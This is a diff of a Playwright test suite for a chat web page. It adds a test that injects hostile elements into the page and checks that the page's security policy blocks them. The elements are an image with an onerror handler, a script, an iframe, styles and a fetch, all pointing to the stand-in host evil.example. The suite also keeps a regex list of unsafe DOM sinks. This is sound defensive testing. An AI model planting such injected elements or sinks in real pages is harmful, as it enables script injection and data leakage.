@@ -1,11 +1,12 @@
 """The chat page in a real browser: what it asks the server, shows, keeps, and how it meets trouble.
 
-The model behind `server_url` says anything: behaviour is tested, not what is said. What a tiny model cannot be made
-to do (call a tool, fail in the middle of a stream, ask for a key) is played to the browser by `page.route`.
+The model behind `server_url` says anything: behaviour is tested, not what is said. What a tiny model cannot
+be made to do (call a tool, fail in the middle of a stream) is played to the browser by `page.route`.
 """
 
 import json
 import re
+from typing import Any
 
 import pytest
 from playwright.sync_api import Browser, Page, Request, Route, expect
@@ -26,7 +27,7 @@ USER, TOOL_REPLY = (
 )
 
 
-def chunk(delta: dict[str, object], tokens: list[dict[str, object]] | None = None, end: str | None = None) -> str:
+def chunk(delta: dict[str, Any], tokens: list[dict[str, Any]] | None = None, end: str | None = None) -> str:
     logprobs = {"content": tokens} if tokens else None
     choice = {"index": 0, "delta": delta, "logprobs": logprobs, "finish_reason": end}
     return f"data: {json.dumps({'object': 'chat.completion.chunk', 'choices': [choice]})}\n\n"
@@ -41,9 +42,9 @@ def ask(page: Page, text: str) -> None:
     expect(page.locator("[aria-busy]")).to_have_count(0, timeout=60_000)
 
 
-def requests_of(page: Page) -> list[dict[str, object]]:
+def requests_of(page: Page) -> list[dict[str, Any]]:
     """What the page asks for, as it does."""
-    asked: list[dict[str, object]] = []
+    asked: list[dict[str, Any]] = []
 
     def note(request: Request) -> None:
         if request.url.endswith("/chat/completions"):
@@ -61,7 +62,7 @@ def keep_slow(page: Page) -> None:
     session.send("Network.emulateNetworkConditions", limits)
 
 
-def begin(page: Page, messages: list[dict[str, object]]) -> None:
+def begin(page: Page, messages: list[dict[str, Any]]) -> None:
     """Comes back to a conversation that the browser has kept."""
     page.evaluate("messages => localStorage.setItem('trueformer.chat', JSON.stringify(messages))", messages)
     page.reload()
@@ -69,19 +70,21 @@ def begin(page: Page, messages: list[dict[str, object]]) -> None:
 
 def set_slider(page: Page, name: str, value: float) -> None:
     page.locator(f"#{name}").evaluate(
-        "(slider, value) => { slider.value = value; slider.dispatchEvent(new Event('input', {bubbles: true})); }",
+        "(e, value) => { e.value = value; e.dispatchEvent(new Event('input', {bubbles: true})); }",
         value,
     )
 
 
 def test_the_page_is_one_piece_and_never_makes_markup_of_text() -> None:
     assert not re.search(r"""(src|href)=["'](?!data:|#)""", page())
-    unsafe = r"innerHTML|outerHTML|insertAdjacentHTML|DOMParser|createContextualFragment|document\.write|eval\(|Function\("
-    assert not re.search(unsafe, script())
+    unsafe = r"innerHTML|outerHTML|insertAdjacentHTML|DOMParser|createContextualFragment|document\.write"
+    assert not re.search(unsafe + r"|eval\(|Function\(", script())
     assert "unsafe" not in content_security_policy()
 
 
-def test_the_browser_is_sent_the_policy_and_finds_nothing_against_it(browser: Browser, server_url: str) -> None:
+def test_the_browser_is_sent_the_policy_and_finds_nothing_against_it(
+    browser: Browser, server_url: str
+) -> None:
     tab = browser.new_page()
     said: list[str] = []
     tab.on("console", lambda message: said.append(message.text))
@@ -93,6 +96,41 @@ def test_the_browser_is_sent_the_policy_and_finds_nothing_against_it(browser: Br
     refused = "() => { try { document.body.innerHTML = '<b>x</b>'; } catch { return true; } return false; }"
     assert tab.evaluate(refused), "the browser itself refuses markup made of text"
     assert [text for text in said if "TrustedHTML" not in text] == []
+    tab.close()
+
+
+# Puts into the page what no script of it should; answers what the policy refused, and whether any of it ran.
+ATTACK = """async () => {
+  const refused = new Set();
+  document.addEventListener("securitypolicyviolation", (event) => refused.add(event.effectiveDirective));
+  const add = (tag, attributes) => {
+    const element = document.createElement(tag);
+    for (const [name, value] of Object.entries(attributes)) {
+      try { element.setAttribute(name, value); } catch { refused.add("trusted-types"); }
+    }
+    document.body.append(element);
+  };
+  add("img", { src: "https://evil.example/x.png", onerror: "window.ran = true" });
+  add("script", { src: "https://evil.example/x.js" });
+  add("iframe", { src: "https://evil.example/" });
+  add("p", { style: "background: url(https://evil.example/y.png)" });
+  add("link", { rel: "stylesheet", href: "https://evil.example/x.css" });
+  await fetch("https://evil.example/").catch(() => null);
+  await new Promise((resolve) => setTimeout(resolve, 100));
+  return [[...refused], window.ran === true];
+}"""
+
+
+def test_whatever_gets_into_the_page_can_neither_run_nor_call_out(browser: Browser, server_url: str) -> None:
+    tab = browser.new_page()
+    tab.goto(server_url)
+    outside: list[Request] = []
+    tab.on("request", outside.append)
+    refused, ran = tab.evaluate(ATTACK)
+    wanted = {"img-src", "frame-src", "style-src-attr", "style-src-elem", "connect-src", "trusted-types"}
+    assert wanted <= set(refused)
+    assert not ran
+    assert {request.failure for request in outside} <= {"csp"}, "refused before anything is sent"
     tab.close()
 
 
@@ -178,7 +216,7 @@ def test_settings_are_shown_sent_kept_and_reset(page: Page) -> None:
     page.reload()
     ask(page, "Hello")
     assert {"temperature": 1.3, "top_k": 40, "seed": 12}.items() <= asked[0].items()
-    assert asked[0]["messages"][0] == {"role": "system", "content": "Be brief."}  # type: ignore[index]
+    assert asked[0]["messages"][0] == {"role": "system", "content": "Be brief."}
     page.get_by_role("button", name="Settings", exact=True).click()
     page.get_by_role("button", name="Reset the settings").click()
     expect(page.locator("#temperature-value")).to_have_text(usual)
@@ -188,7 +226,7 @@ def test_settings_are_shown_sent_kept_and_reset(page: Page) -> None:
 
 def test_tokens_show_how_likely_they_were(page: Page) -> None:
     ask(page, "Hello")
-    said = "".join(part["text"] for part in kept(page)[1]["parts"])  # type: ignore[index, union-attr]
+    said = "".join(part["text"] for part in kept(page)[1]["parts"])
     page.get_by_label("Token probabilities").click()
     tokens, tip = page.locator(".token"), page.locator("#tip")
     assert "".join(tokens.all_text_contents()).startswith(said.split("\ufffd")[0][:20])
@@ -207,7 +245,7 @@ def test_tokens_show_how_likely_they_were(page: Page) -> None:
     expect(tip).to_be_hidden()
 
 
-def kept(page: Page) -> list[dict[str, object]]:
+def kept(page: Page) -> list[dict[str, Any]]:
     return page.evaluate("JSON.parse(localStorage.getItem('trueformer.chat'))")
 
 
@@ -219,8 +257,8 @@ def test_tools_are_shown_as_such_and_sent_back_as_parts(page: Page) -> None:
     expect(page.locator(".reply strong")).to_have_text("42")
     asked = requests_of(page)
     ask(page, "And again?")
-    parts = [{key: part[key] for key in part if key != "tokens"} for part in TOOL_REPLY["parts"]]  # type: ignore[index, union-attr]
-    assert asked[0]["messages"][1] == {"role": "assistant", "content": parts}  # type: ignore[index]
+    parts = [{key: part[key] for key in part if key != "tokens"} for part in TOOL_REPLY["parts"]]
+    assert asked[0]["messages"][1] == {"role": "assistant", "content": parts}
 
 
 def test_a_tool_call_in_a_stream(page: Page) -> None:
@@ -229,7 +267,9 @@ def test_a_tool_call_in_a_stream(page: Page) -> None:
     body = chunk({"role": "assistant", "content": "It is "}, [token]) + chunk({"parts": [call]})
     body += chunk({"parts": [{"type": "tool_result", "text": "<b>42</b>"}]}) + chunk({"content": "42 — ça"})
     body += chunk({}, end="stop") + "data: [DONE]\n\n"
-    page.route("**/chat/completions", lambda route: route.fulfill(body=body, content_type="text/event-stream"))
+    page.route(
+        "**/chat/completions", lambda route: route.fulfill(body=body, content_type="text/event-stream")
+    )
     ask(page, "What is 6 * 7?")
     expect(page.get_by_label("Answered")).to_have_text("<b>42</b>")
     expect(page.locator(".reply .body > p").last).to_have_text("42 — ça")
@@ -266,7 +306,9 @@ def test_a_page_without_its_server_says_so(page: Page) -> None:
 )
 def test_a_reply_that_breaks_off_is_kept_with_the_reason(page: Page, ending: str, says: str) -> None:
     body = chunk({"content": "Half a"}) + ending
-    page.route("**/chat/completions", lambda route: route.fulfill(body=body, content_type="text/event-stream"))
+    page.route(
+        "**/chat/completions", lambda route: route.fulfill(body=body, content_type="text/event-stream")
+    )
     ask(page, "Hello")
     expect(page.get_by_role("alert")).to_contain_text(says)
     expect(page.locator(".reply .body")).to_have_text("Half a")
@@ -309,7 +351,13 @@ def test_a_new_chat_can_be_undone(page: Page) -> None:
 
 
 @pytest.mark.parametrize(
-    "damaged", ["{", "null", "7", '[null, 7, {"role": "user"}, {"role": "assistant", "parts": [null, {"type": "text"}]}]']
+    "damaged",
+    [
+        "{",
+        "null",
+        "7",
+        '[null, 7, {"role": "user"}, {"role": "assistant", "parts": [null, {"type": "text"}]}]',
+    ],
 )
 def test_damaged_memory_does_not_stop_the_page(page: Page, damaged: str) -> None:
     for name in ("chat", "settings", "theme", "chances", "model"):
@@ -353,7 +401,11 @@ def test_copies_are_what_was_said(page: Page) -> None:
     page.context.grant_permissions(["clipboard-read", "clipboard-write"])
     code = {"type": "text", "text": "Like this:\n```py\na < b\n  c\n```\n", "tokens": []}
     begin(page, [USER, {"role": "assistant", "parts": [code]}])
-    for label, text in (("Copy the code", "a < b\n  c"), ("Copy the reply", code["text"]), ("Copy the message", USER["text"])):
+    for label, text in (
+        ("Copy the code", "a < b\n  c"),
+        ("Copy the reply", code["text"]),
+        ("Copy the message", USER["text"]),
+    ):
         page.get_by_label(label).click(force=True)
         expect(page.locator("#announce")).to_have_text("Copied.")
         assert page.evaluate("navigator.clipboard.readText()") == text
